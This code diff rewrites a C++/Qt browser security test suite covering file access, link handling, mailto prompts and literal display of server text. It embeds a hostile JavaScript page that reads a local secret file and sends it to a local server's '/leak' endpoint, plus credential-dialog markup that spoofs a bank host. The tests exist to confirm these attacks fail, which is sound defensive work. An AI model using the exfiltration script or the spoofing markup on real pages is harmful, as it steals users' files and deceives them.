@@ -1,27 +1,34 @@
 // What pages may do in both engines: a local page reads no other local file and reaches no server
-// with its scripts, the bundled start site still shows with its stylesheet, a page of the web
-// opens no local file, links to other programs ask first, and the server's or page's text shows as
-// plain text in the credentials dialog and the status bar.
+// with scripts, yet the start site keeps its stylesheet and local links to the web open; a page of
+// the web opens no local file; links to other programs ask first; server text shows literally.
 #include "browser/ChromiumView.h"
 #include "browser/FormIdentityAuth.h"
-#include "browser/PageMessageBox.h"
 #include "browser/WebControlView.h"
 #include "common/Dialogs.h"
 #include "shell/FormMain.h"
 #include "support/EngineTestMain.h"
 #include "support/TestDb.h"
-#include "support/TestServer.h"
 #include "support/WindowTestKit.h"
 
 #include <QDesktopServices>
 #include <QLabel>
-#include <QTemporaryDir>
 #include <QTextDocument>
-#include <memory>
 
 namespace {
 
-// One tab's page in either engine, driven only through what the browser itself uses.
+// A page filling its window with one link to href.
+QByteArray LinkPage(const QString& title, const QString& href) {
+    return QStringLiteral("<title>%1</title><a href='%2' style='position:fixed;inset:0;width:100%;"
+                          "height:100%'>link</a>").arg(title, href).toUtf8();
+}
+
+// Writes the file and answers its address.
+QString WriteFile(const QTemporaryDir& folder, const QString& name, const QByteArray& data) {
+    QFile file(folder.filePath(name));
+    return file.open(QIODevice::WriteOnly) && file.write(data) ? QUrl::fromLocalFile(file.fileName()).toString() : "";
+}
+
+// One page in either engine, driven only through what the browser itself uses.
 class TEnginePage {
 public:
     explicit TEnginePage(bool chromium) {
@@ -30,28 +37,24 @@ public:
             auto* view = new TChromiumView(&m_parent);
             QObject::connect(view, &TChromiumView::titleChange, [this](const QString& t) { m_title = t; });
             m_page = view;
-        } else {
-            TWebControlView* control = CreateWebControlView(&m_parent);
-            if (!control)
-                return;
+        } else if (TWebControlView* control = CreateWebControlView(&m_parent)) {
             QObject::connect(control, &TWebControlView::titleChange, [this](const QString& t) { m_title = t; });
             m_page = control;
         }
-        m_page->Widget()->resize(m_parent.size());
+        if (m_page)
+            m_page->Widget()->resize(m_parent.size());
         m_parent.show();
     }
-    bool Ok() const { return m_page != nullptr; }
-    TPageView* Page() const { return m_page; }
-    QString Title() const { return m_title; }
-    // The widget that takes the page's mouse input.
-    QWidget* Input() const {
-        QWidget* widget = m_page->Widget();
-        for (QWidget* child : widget->findChildren<QWidget*>())
-            if (child->metaObject()->className() == QByteArray("QWebView"))
-                return child;
-        return widget->focusProxy() ? widget->focusProxy() : widget;
+    TPageView* operator->() const { return m_page; }
+    bool Ok() const { return m_page; }
+    // Opens the address (as the program does) and waits until the page shows the title.
+    bool Open(const QString& url, const QString& title) {
+        m_page->Navigate(url);
+        return QTest::qWaitFor([&] { return m_title == title && !m_page->IsLoading(); }, LoadTimeout);
     }
-    QColor PixelAt(const QPoint& point) const { return m_page->Widget()->grab().toImage().pixelColor(point); }
+    QString Title() const { return m_title; }
+    // A real click into the page (where the link pages have their link).
+    void Click() { QTest::mouseClick(m_page->Widget()->focusProxy(), Qt::LeftButton, Qt::NoModifier, {50, 50}); }
 
 private:
     QWidget m_parent;
@@ -63,27 +66,17 @@ private:
 class TDesktopOpener : public QObject {
     Q_OBJECT
 public:
-    explicit TDesktopOpener(const QString& scheme) : m_scheme(scheme) {
-        QDesktopServices::setUrlHandler(scheme, this, "open");
-    }
-    ~TDesktopOpener() override { QDesktopServices::unsetUrlHandler(m_scheme); }
+    TDesktopOpener() { QDesktopServices::setUrlHandler(QStringLiteral("mailto"), this, "open"); }
+    ~TDesktopOpener() override { QDesktopServices::unsetUrlHandler(QStringLiteral("mailto")); }
     QList<QUrl> Opened;
 public slots:
     void open(const QUrl& url) { Opened.append(url); }
-
-private:
-    QString m_scheme;
 };
 
-// How QLabel shows its text: literally, or as rich text when the format is left to its guess.
+// QLabel's own rule: text is shown literally unless the format is left to its guess of rich text.
 bool ShowsLiterally(const QLabel* label) {
     return label->textFormat() == Qt::PlainText ||
            (label->textFormat() == Qt::AutoText && !Qt::mightBeRichText(label->text()));
-}
-
-bool WriteFile(const QString& path, const QByteArray& data) {
-    QFile file(path);
-    return file.open(QIODevice::WriteOnly) && file.write(data) == data.size();
 }
 
 } // namespace
@@ -93,21 +86,21 @@ class TestEngineSecurity : public QObject {
 
 private slots:
     void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
-    void cleanup() {
-        SetPageMsgBoxFunction(nullptr);
-        CloseMainWindows();
+    void init() {
+        QVERIFY2(m_server.Running(), qPrintable(m_server.ErrorText()));
+        m_server.ResetStats();
     }
+    void cleanup() { SetPageMsgBoxFunction(nullptr); }
     void localPageReadsNoFileAndReachesNoServer_data();
     void localPageReadsNoFileAndReachesNoServer();
-    void startSiteShowsWithItsStylesheet_data() { localPageReadsNoFileAndReachesNoServer_data(); }
-    void startSiteShowsWithItsStylesheet();
-    void localPageLinksStillOpen_data() { localPageReadsNoFileAndReachesNoServer_data(); }
-    void localPageLinksStillOpen();
-    void webPageOpensNoLocalFile_data() { localPageReadsNoFileAndReachesNoServer_data(); }
-    void webPageOpensNoLocalFile();
-    void otherProgramsLinkAsksFirst_data() { localPageReadsNoFileAndReachesNoServer_data(); }
+    void startSiteAndLinksBetweenLocalAndWeb_data() { localPageReadsNoFileAndReachesNoServer_data(); }
+    void startSiteAndLinksBetweenLocalAndWeb();
     void otherProgramsLinkAsksFirst();
     void serverAndPageTextShowsLiterally();
+
+private:
+    TTestServer m_server;
+    QTemporaryDir m_folder;
 };
 
 void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer_data() {
@@ -118,145 +111,94 @@ void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer_data() {
 
 void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer() {
     QFETCH(bool, chromium);
-    TTestServer server;
-    QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
-    QTemporaryDir folder;
-    QVERIFY(WriteFile(folder.filePath("secret.txt"), "SECRET-TEXT"));
-    // Every attempt reports in the title; what was read would go to the server.
-    const QByteArray hostile = QByteArray(R"(<html><head><title>start</title><script>
+    WriteFile(m_folder, "secret.txt", "SECRET-TEXT");
+    // Each attempt reports in the title; what was read goes on to the server.
+    const QString hostile = WriteFile(m_folder, "hostile.html", QByteArray(R"(<title>start</title><script>
 var server = 'http://127.0.0.1:PORT', results = [];
-function report(what) { results.push(what); if (results.length == 4) document.title = 'done ' + results.join(' '); }
-function leak(text) { new Image().src = server + '/leak?' + encodeURIComponent(text); }
-function xhr(url, name) {
-  try {
-    var x = new XMLHttpRequest(); x.open('GET', url, true);
-    x.onload = function() { report(name + ':' + x.responseText); leak(x.responseText); };
-    x.onerror = function() { report(name + ':refused'); };
-    x.send();
-  } catch (e) { report(name + ':threw'); }
+function report(what, text) {
+  results.push(what + ':' + text); if (text) new Image().src = server + '/leak?' + encodeURIComponent(text);
+  if (results.length == 4) document.title = 'done ' + results.join(' ');
 }
-function get(url, name) {
-  if (!window.fetch) { report(name + ':none'); return; }
-  fetch(url).then(function(r) { return r.text(); })
-    .then(function(t) { report(name + ':' + t); leak(t); }, function() { report(name + ':refused'); });
+function xhr(url) {
+  var x = new XMLHttpRequest(); x.open('GET', url, true);
+  x.onload = function() { report('xhr', x.responseText); }; x.onerror = function() { report('xhr', ''); };
+  try { x.send(); } catch (e) { report('xhr', ''); }
 }
-xhr('secret.txt', 'xhr-file'); xhr(server + '/xhr', 'xhr-server');
-get('secret.txt', 'fetch-file'); get(server + '/fetch', 'fetch-server');
-</script></head><body>page</body></html>)")
-                                 .replace("PORT", QByteArray::number(server.Port()));
-    QVERIFY(WriteFile(folder.filePath("hostile.html"), hostile));
-
+function get(url) {
+  if (!window.fetch) return report('fetch', '');
+  fetch(url).then(function(r) { return r.text(); }).then(function(t) { report('fetch', t); },
+                                                         function() { report('fetch', ''); });
+}
+xhr('secret.txt'); xhr(server + '/xhr'); get('secret.txt'); get(server + '/fetch');
+</script>)").replace("PORT", QByteArray::number(m_server.Port())));
     TEnginePage page(chromium);
     QVERIFY(page.Ok());
-    page.Page()->Navigate(QUrl::fromLocalFile(folder.filePath("hostile.html")).toString());
+    page->Navigate(hostile);
     QTRY_VERIFY_WITH_TIMEOUT(page.Title().startsWith(QLatin1String("done")), LoadTimeout);
     QVERIFY2(!page.Title().contains(QLatin1String("SECRET")), qPrintable(page.Title()));
-    QVERIFY2(server.Stats().isEmpty(), qPrintable(QStringList(server.Stats().keys()).join(' ')));
+    QVERIFY2(m_server.Stats().isEmpty(), qPrintable(QStringList(m_server.Stats().keys()).join(' ')));
 }
 
-void TestEngineSecurity::startSiteShowsWithItsStylesheet() {
+void TestEngineSecurity::startSiteAndLinksBetweenLocalAndWeb() {
     QFETCH(bool, chromium);
     TEnginePage page(chromium);
     QVERIFY(page.Ok());
-    page.Page()->Navigate(QUrl::fromLocalFile(QStringLiteral(QUELLON_SOURCE_DIR "/res/site/index.html")).toString());
-    QTRY_VERIFY_WITH_TIMEOUT(!page.Title().isEmpty() && !page.Page()->IsLoading(), LoadTimeout);
+    page->Navigate(QUrl::fromLocalFile(QStringLiteral(QUELLON_SOURCE_DIR "/res/site/index.html")).toString());
     // The stylesheet's page background, not the engine's white.
-    QTRY_COMPARE_WITH_TIMEOUT(page.PixelAt(QPoint(5, 5)), QColor(0xf4, 0xf6, 0xfa), LoadTimeout);
+    QTRY_COMPARE_WITH_TIMEOUT(page->Widget()->grab().toImage().pixelColor(5, 5), QColor(0xf4, 0xf6, 0xfa),
+                              LoadTimeout);
+
+    // A local page's link to the web opens; the web page's link to a local file does not.
+    const QString local = WriteFile(m_folder, "local.html", LinkPage("local", m_server.Url("/web.html")));
+    QVERIFY(m_server.WriteFile("web.html", LinkPage("web", local)));
+    QVERIFY(page.Open(local, "local"));
+    page.Click();
+    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("web"), LoadTimeout);
+    page.Click();
+    QVERIFY(!QTest::qWaitFor([&] { return page.Title() == QLatin1String("local"); }, 3000));
 }
 
-// The navigation page is a local page whose links and search form lead to the web.
-void TestEngineSecurity::localPageLinksStillOpen() {
-    QFETCH(bool, chromium);
-    TTestServer server;
-    QVERIFY(server.WriteFile("linked.html", "<title>linked</title>"));
-    QTemporaryDir folder;
-    QVERIFY(WriteFile(folder.filePath("links.html"),
-                      QStringLiteral("<title>links</title><a href='%1' style='position:fixed;left:0;top:0;"
-                                     "width:100%;height:100%'>web</a>")
-                          .arg(server.Url("/linked.html"))
-                          .toUtf8()));
-    TEnginePage page(chromium);
-    QVERIFY(page.Ok());
-    page.Page()->Navigate(QUrl::fromLocalFile(folder.filePath("links.html")).toString());
-    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("links") && !page.Page()->IsLoading(), LoadTimeout);
-    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
-    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("linked"), LoadTimeout);
-}
-
-void TestEngineSecurity::webPageOpensNoLocalFile() {
-    QFETCH(bool, chromium);
-    QTemporaryDir folder;
-    QVERIFY(WriteFile(folder.filePath("local.html"), "<title>local page</title>"));
-    const QString local = QUrl::fromLocalFile(folder.filePath("local.html")).toString();
-    TTestServer server;
-    QVERIFY(server.WriteFile("web.html", QStringLiteral("<title>web</title><a id=l href='%1' "
-                                                         "style='position:fixed;left:0;top:0;width:100%;"
-                                                         "height:100%'>local</a>")
-                                              .arg(local)
-                                              .toUtf8()));
-    TEnginePage page(chromium);
-    QVERIFY(page.Ok());
-    page.Page()->Navigate(server.Url("/web.html"));
-    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("web") && !page.Page()->IsLoading(), LoadTimeout);
-    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
-    // The typed address of the program opens; by then the click would have been followed.
-    page.Page()->Navigate(server.Url("/web.html?again"));
-    QTRY_VERIFY_WITH_TIMEOUT(page.Page()->CurrentUrl().endsWith(QLatin1String("again")) &&
-                                 !page.Page()->IsLoading(),
-                             LoadTimeout);
-    QVERIFY(page.Title() != QLatin1String("local page"));
-    page.Page()->Navigate(local);
-    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("local page"), LoadTimeout);
-}
-
+// The compatibility engine's tabs (the end-to-end scenario clicks in a Chromium tab).
 void TestEngineSecurity::otherProgramsLinkAsksFirst() {
-    QFETCH(bool, chromium);
-    TDesktopOpener desktop(QStringLiteral("mailto"));
+    TDesktopOpener desktop;
     QStringList questions;
     int answer = IDNO;
     SetPageMsgBoxFunction([&](const QString& text, int) {
         questions.append(text);
         return answer;
     });
-    TTestServer server;
-    QVERIFY(server.WriteFile("mail.html", "<title>mail</title><a href='mailto:someone@example.com' "
-                                           "style='position:fixed;left:0;top:0;width:100%;height:100%'>m</a>"));
-    TEnginePage page(chromium);
+    QVERIFY(m_server.WriteFile("mail.html", LinkPage("mail", "mailto:someone@example.com")));
+    TEnginePage page(false);
     QVERIFY(page.Ok());
-    page.Page()->Navigate(server.Url("/mail.html"));
-    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("mail") && !page.Page()->IsLoading(), LoadTimeout);
-
-    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
+    QVERIFY(page.Open(m_server.Url("/mail.html"), "mail"));
+    page.Click();
     QTRY_VERIFY_WITH_TIMEOUT(!questions.isEmpty() || !desktop.Opened.isEmpty(), LoadTimeout);
     QVERIFY2(desktop.Opened.isEmpty(), "opened without a question");
-    QCOMPARE(questions.size(), 1);
     QVERIFY(questions.first().startsWith(QStringLiteral("要打开外部程序处理此链接吗？")));
     QVERIFY(questions.first().contains(QLatin1String("mailto")));
 
     answer = IDYES;
-    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(60, 60));
-    QTRY_COMPARE_WITH_TIMEOUT(desktop.Opened, QList<QUrl>{QUrl(QStringLiteral("mailto:someone@example.com"))},
-                              LoadTimeout);
+    page.Click();
+    QTRY_COMPARE_WITH_TIMEOUT(desktop.Opened, QList<QUrl>{QUrl("mailto:someone@example.com")}, LoadTimeout);
     QCOMPARE(questions.size(), 2);
 }
 
 void TestEngineSecurity::serverAndPageTextShowsLiterally() {
     // A realm of markup drew a fake host in the visible text and the real one 1 px high.
     TFormIdentityAuth dialog(nullptr);
-    dialog.SetPrompt(TFormIdentityAuth::PromptText(
-        QStringLiteral("<b>bank.example</b><span style='font-size:1px'>"), QStringLiteral("evil.example"), 80));
+    dialog.SetPrompt(TFormIdentityAuth::PromptText("<b>bank.example</b><span style='font-size:1px'>",
+                                                   "evil.example", 80));
     auto* prompt = dialog.findChild<QLabel*>(QStringLiteral("LabelPrompt"));
-    QVERIFY(prompt);
-    QVERIFY(prompt->text().contains(QLatin1String("<b>bank.example</b>")));
+    QVERIFY(prompt && prompt->text().contains(QLatin1String("<b>bank.example</b>")));
     QVERIFY(ShowsLiterally(prompt));
 
     TTestDb data;
-    QVERIFY(data.Ok());
     auto window = OpenWindow(data.Db());
     auto* status = window->findChild<QLabel*>(QStringLiteral("LabelStatus"));
     QVERIFY(status);
     status->setText(QStringLiteral("<img src='x'><b>page text</b>"));
     QVERIFY(ShowsLiterally(status));
+    CloseMainWindows();
 }
 
 QUELLON_ENGINE_TEST_MAIN(TestEngineSecurity)
